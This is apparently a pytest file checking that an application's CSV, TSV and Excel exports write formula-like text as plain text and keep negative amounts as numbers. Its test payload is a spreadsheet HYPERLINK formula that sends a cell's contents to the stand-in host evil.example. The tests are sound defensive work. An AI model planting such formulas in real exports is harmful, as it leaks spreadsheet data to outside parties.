"""Exports never hand a spreadsheet a formula: every text cell that would start one is written as text
(CSV and TSV with a single quote in front, workbooks as string cells), numbers and amounts stay numbers."""

import csv
import io
from datetime import date
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from shared.exports import FORMULA_STARTS, TableFormat, table_response
from tests.budget.conftest import FINANCE, ORG, make_units
from tests.budget.test_ledger_import import FILE as LEDGER_FILE
from tests.budget.test_ledger_import import account_plan
from tests.budget.test_ledger_import import sent as sent_ledger
from tests.goals.test_measures_import import EDITOR, sent

INJECTED = {start: f'{start}HYPERLINK("http://evil.example/?leak="&A2,"click")' for start in FORMULA_STARTS}
# The API strips surrounding whitespace from titles and codes, so tab and carriage return reach an
# export only through shared.exports itself (tested below); the four others come through the API.
API_STARTS = ["=", "+", "-", "@"]


def body_of(response) -> bytes:
    """The bytes of an answer through the stack (httpx) or straight from shared.exports (Starlette)."""
    return response.content if hasattr(response, "content") else bytes(response.body)


def rows_of(response) -> list[list[str]]:
    delimiter = "\t" if "tab-separated" in response.headers["content-type"] else ","
    return list(csv.reader(io.StringIO(body_of(response).decode()), delimiter=delimiter))


def cells_of(response) -> list[list]:
    sheet = load_workbook(io.BytesIO(body_of(response))).active
    return [list(row) for row in sheet.iter_rows()]


def assert_no_formula(cells) -> None:
    for row in cells:
        for cell in row:
            assert cell.data_type != "f", f"{cell.coordinate} is a formula: {cell.value!r}"


def assert_neutralised(text_cells: list[str], texts: list[str]) -> None:
    for text in texts:
        assert f"'{text}" in text_cells, f"{text!r} not written as text"
        assert text not in text_cells


@pytest.mark.parametrize("table_format", list(TableFormat))
def test_every_dangerous_start_is_text_and_numbers_stay_numbers(table_format):
    texts = list(INJECTED.values())
    rows = [(text, Decimal("-1234.50"), 7, date(2024, 4, 30), "-") for text in texts]
    response = table_response("t", ["text", "amount", "count", "day", "dash"], rows, table_format)
    if table_format is TableFormat.xlsx:
        _header, *cells = cells_of(response)
        assert_no_formula(cells)
        assert [c[0].value for c in cells] == texts  # exact text, shown as text
        assert all(c[0].data_type == "s" and c[0].quotePrefix for c in cells)
        assert {(c[1].value, c[1].data_type, c[2].value) for c in cells} == {(-1234.5, "n", 7)}
        return
    _header, *written = rows_of(response)
    assert [r[0] for r in written] == [f"'{text}" for text in texts]
    assert {(r[1], r[2], r[3], r[4]) for r in written} == {("-1234.5", "7", "2024-04-30", "'-")}


async def dangerous_goals(stack) -> list[str]:
    """A goal for each dangerous start, each with an indicator whose name and external code start so too."""
    admin = stack.auth("admin", "admin")
    unit = await stack.client.get("/api/goals/units/HSN", headers=admin)
    coded = await stack.client.patch(
        "/api/goals/units/HSN", headers={**admin, "If-Match": unit.headers["etag"]}, json={"external_code": "1010"}
    )
    assert coded.status_code == 200, coded.text
    lines = ["unit\tdate\tmeasure\tvalue"]
    for number, start in enumerate(API_STARTS):
        text = INJECTED[start]
        goal = await stack.client.post(
            "/api/goals/goals",
            headers=stack.auth(*EDITOR),
            json={"unit_code": "HSN", "title": text, "start_year": 2023, "end_year": 2025},
        )
        assert goal.status_code == 201, goal.text
        indicator = await stack.client.post(
            "/api/goals/indicators",
            headers=stack.auth(*EDITOR),
            json={
                "goal_id": goal.json()["id"],
                "name": text,
                "unit_of_measure": "%",
                "direction": "higher_is_better",
                "source": "external",
                "external_code": f"{start}K{number}",
            },
        )
        assert indicator.status_code == 201, indicator.text
        lines.append(f"1010\t2024-01-31\t{start}K{number}\t-{number}.5")
    imported = await sent(stack, "\n".join(lines) + "\n")
    assert imported.status_code == 200, imported.text
    assert imported.json()["created"] == len(API_STARTS)
    return [INJECTED[start] for start in API_STARTS]


async def test_goals_and_indicators_export_their_texts_as_text(seeded):
    texts = await dangerous_goals(seeded)
    headers = seeded.auth(*EDITOR)
    as_csv = await seeded.client.get("/api/goals/exports/goals?year=2024&format=csv", headers=headers)
    header, *rows = rows_of(as_csv)
    goal, indicator = header.index("goal"), header.index("indicator")
    assert_neutralised([r[goal] for r in rows], texts)
    assert_neutralised([r[indicator] for r in rows], texts)
    as_xlsx = await seeded.client.get("/api/goals/exports/goals?year=2024&format=xlsx", headers=headers)
    cells = cells_of(as_xlsx)
    assert_no_formula(cells)
    written = {cell.value for row in cells for cell in row}
    assert set(texts) <= written


@pytest.mark.parametrize("table_format", ["tsv", "csv"])
async def test_measures_export_codes_as_text_and_values_as_numbers(seeded, table_format):
    await dangerous_goals(seeded)
    path = f"/api/goals/exports/measures?format={table_format}&period=month"
    _header, *rows = rows_of(await seeded.client.get(path, headers=seeded.auth(*EDITOR)))
    assert sorted((r[2], r[3]) for r in rows) == sorted(
        (f"'{start}K{number}", f"-{number}.5") for number, start in enumerate(API_STARTS)
    )


async def test_measures_workbook_has_no_formula_and_negative_values_are_numbers(seeded):
    await dangerous_goals(seeded)
    path = "/api/goals/exports/measures?format=xlsx&period=month"
    _header, *cells = cells_of(await seeded.client.get(path, headers=seeded.auth(*EDITOR)))
    assert_no_formula(cells)
    assert sorted((r[2].value, r[3].value) for r in cells) == sorted(
        (f"{start}K{number}", -(number + 0.5)) for number, start in enumerate(API_STARTS)
    )
    assert all(r[3].data_type == "n" for r in cells)


async def test_a_neutralised_code_imported_back_is_a_problem_not_another_code(seeded):
    """The measures import reads what it always read: `'=K0` matches no code and is reported by line."""
    await dangerous_goals(seeded)
    exported = await seeded.client.get("/api/goals/exports/measures?format=tsv", headers=seeded.auth(*EDITOR))
    back = await sent(seeded, exported.text, dry_run=True)
    assert back.status_code == 200, back.text
    assert {p["line"] for p in back.json()["problems"]} == {2, 3, 4, 5}
    assert back.json()["applied"] is False


@pytest.mark.parametrize("table_format", ["csv", "tsv", "xlsx"])
async def test_outcomes_keep_negative_amounts_as_numbers(stack, table_format):
    org = stack
    await make_units(org, ORG)
    await account_plan(org)
    assert (await sent_ledger(org, LEDGER_FILE)).status_code == 200
    response = await org.client.get(f"/api/budget/exports/outcomes?format={table_format}", headers=org.auth(*FINANCE))
    assert response.status_code == 200
    if table_format == "xlsx":
        _header, *cells = cells_of(response)
        assert_no_formula(cells)
        amounts = [r[3] for r in cells]
        assert all(c.data_type == "n" for c in amounts)
        assert -1234568 in {c.value for c in amounts}
        return
    _header, *rows = rows_of(response)
    assert ["HSN", "3", "2024-03", "-1234568"] in rows
    assert not any(cell.startswith("'") for row in rows for cell in row)
